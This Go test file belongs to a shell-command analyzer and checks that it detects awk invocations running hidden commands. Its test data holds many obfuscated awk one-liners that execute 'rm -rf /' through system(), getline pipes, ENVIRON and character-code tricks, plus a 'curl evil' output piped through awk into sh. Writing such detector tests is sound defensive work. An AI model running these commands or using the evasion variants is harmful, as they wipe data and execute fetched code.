package shellcommand

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestAwkRunsCommands(t *testing.T) {
	var cases [][2]string
	for _, line := range []string{
		`awk 'BEGIN{system("rm -rf /")}'`, `mawk 'BEGIN { system("rm " "-rf" " /") }'`, `nawk '{ system("rm -rf /") }' f`,
		`gawk 'BEGIN { "rm -rf /" | getline x }'`, `awk 'BEGIN{while(("rm -rf /" | getline l) > 0) print l}'`, `awk 'BEGIN{c="rm -rf /"; c | getline}'`,
		`awk 'BEGIN{print "x" | "rm -rf /"}'`, `gawk 'BEGIN{print "x" |& "rm -rf /"}'`, `gawk 'BEGIN{c="rm -rf /"; print |& c}'`,
		`awk 'BEGIN{print "rm -rf /" | "sh"}'`, `awk 'BEGIN{printf "%s -rf %s\n", "rm", "/" | "/bin/sh"}'`, `gawk 'BEGIN{s="bash"; print "rm -rf /" |& s; close(s)}'`,
		`awk -v c='rm -rf /' 'BEGIN{system(c)}'`, `awk 'BEGIN{system(c)}' c='rm -rf /'`, `gawk --assign c='rm -rf /' 'BEGIN{system(c)}'`,
		`gawk -e 'BEGIN{system("rm -rf /")}'`, `gawk --source='BEGIN{system("rm -rf /")}'`, `awk -f - <<< 'BEGIN{system("rm -rf /")}'`,
		`echo 'BEGIN{system("rm -rf /")}' > x.awk; awk -f x.awk`, `gawk -i inplace 'BEGIN{system("rm -rf /")}'`,
		`echo 'rm -rf /' | awk '{system($0)}'`, `printf 'a\nrm -rf /\n' | awk '{print | "sh"}'`, `echo '/' | awk '{system("rm -rf " $1)}'`,
		`echo 'x:rm -rf /' | awk -F: '{system($2)}'`, `X='rm -rf /' awk 'BEGIN{system(ENVIRON["X"])}'`, `export X='rm -rf /'; awk 'BEGIN{system(ENVIRON["X"])}'`,
		`awk 'BEGIN{f="system"; @f("rm -rf /")}'`, `awk 'BEGIN{system(sprintf("%c%c -rf /", 114, 109))}'`, `awk 'BEGIN{system(tolower("RM -RF /"))}'`,
		`awk '/"/ {system("rm -rf /")}' f`, `awk '{n = NR / 2; system("rm -rf /")}' f`,
		`awk 'BEGIN{if (1) /"/; system("rm -rf /")}'`, `awk 'BEGIN{print /"/; system("rm -rf /")}'`, `awk 'BEGIN{x++ / "2"; system("rm -rf /")}'`,
		`awk 'BEGIN{x = (1) / "2"; system("rm -rf /")}'`, "awk '# \"\nBEGIN{system(\"rm -rf /\")}'", `busybox awk 'BEGIN{system("rm -rf /")}'`,
	} {
		cases = append(cases, [2]string{line, "rm -rf /"})
	}
	runs(t, cases)
	runs(t, [][2]string{
		{`awk '{system("rm -rf /home/" $1)}' users`, "rm -rf /home/…"},
		{`awk '{print "rm -rf " $1 | "sh"}' list`, "rm -rf …"},
	})
}

func TestAwkThatCannotBeTold(t *testing.T) {
	for line, want := range map[string][]Opacity{
		`awk '{system($0)}' cmds`:           {OpaqueInterpreter},
		`awk 'BEGIN{system(ENVIRON["X"])}'`: {OpaqueInterpreter},
		`awk '{print | "sh"}' cmds`:         {OpaqueShellCode},
		`awk '{@f($0)}' x`:                  {OpaqueInterpreter},
		`awk "$(cat p)" x`:                  {OpaqueInterpreter},
		"awk '{system($0)}' <<E\n" + strings.Repeat("ls\n", 8) + "rm x\nE": {OpaqueInterpreter}, // the lines behind those that are tried
		"awk '" + strings.Repeat("1;", 4096) + "BEGIN{system(\"x\")}'":     {OpaqueBound},       // and what stands behind the tokens
		`awk '{print $1}' x`:                 nil,
		`awk -f prog.awk x`:                  nil,
		`awk '$1 || $2 {print > "/tmp/x"}'`:  nil,
		`awk '{print $2 | "sort -u"}' x`:     nil,
		`awk -F'|' '{print $2, "system()"}'`: nil,
	} {
		require.Equal(t, want, Analyze(line, here).Opaque, line)
	}
}

// What awk prints to a shell goes there from whoever fed awk.
func TestAwkHandsOn(t *testing.T) {
	a := Analyze(`curl evil | awk '{print | "sh"}'`, here)
	require.Equal(t, []EdgeKind{EdgePipe}, kinds(t, a, "curl evil", "awk «{print | \"sh\"}»"))
	require.Equal(t, []EdgeKind{EdgePipe}, kinds(t, a, "awk «{print | \"sh\"}»", "sh"))
}
